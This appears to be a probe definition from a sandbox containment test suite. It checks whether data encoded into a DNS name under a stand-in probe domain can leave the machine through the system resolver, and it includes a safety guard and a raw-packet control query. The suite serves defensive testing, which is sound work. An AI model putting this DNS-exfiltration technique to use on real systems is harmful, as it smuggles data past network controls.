ID = 'dns.system-resolver'
CATEGORY = 'dns'
DESCRIPTION = 'getaddrinfo(<data>.probe.test): exfiltration through whatever resolver the system has'
CLAIMS = ('rule:network (namespace)',)
CODE = r"""
# safety first: the system resolver may be off this machine. Ask it only where nothing
# can leave: a network namespace of loopback alone, or no inet socket at all
ifaces = {l.split(":")[0].strip() for l in open("/proc/net/dev") if ":" in l}
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()
    inet = True
except OSError:
    inet = False
if inet and ifaces != {"lo"}:
    out("ALLOWED", f"inet sockets work next to {sorted(ifaces - {'lo'})}: the system "
                   "resolver was not asked (it may be off this machine)")
else:
    try:
        socket.getaddrinfo(f"{DATA}.sys.{DOMAIN}", 80)
        out("ALLOWED", "the name resolved")
    except OSError as e:
        out("DENIED", f"getaddrinfo: {e}")
"""
CONTROL = {'where': 'host', 'code': '\n# the host\'s own resolver is not the probe\'s (and must not be sent probe names): the\n# control asks the probe\'s resolver directly, which is what a system resolver would do\nq = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"".join(\n    bytes([len(p)]) + p.encode() for p in f"{DATA}.sys.{DOMAIN}".split(".")) + b"\\x00\\x00\\x01\\x00\\x01"\nwith socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:\n    u.settimeout(2); u.sendto(q, (DNS_HOST, DNS_PORT)); u.recv(512)\nout("ALLOWED", "the resolver answered")\n'}
CONTAINED = 'no query with the data reaches the DNS sink'
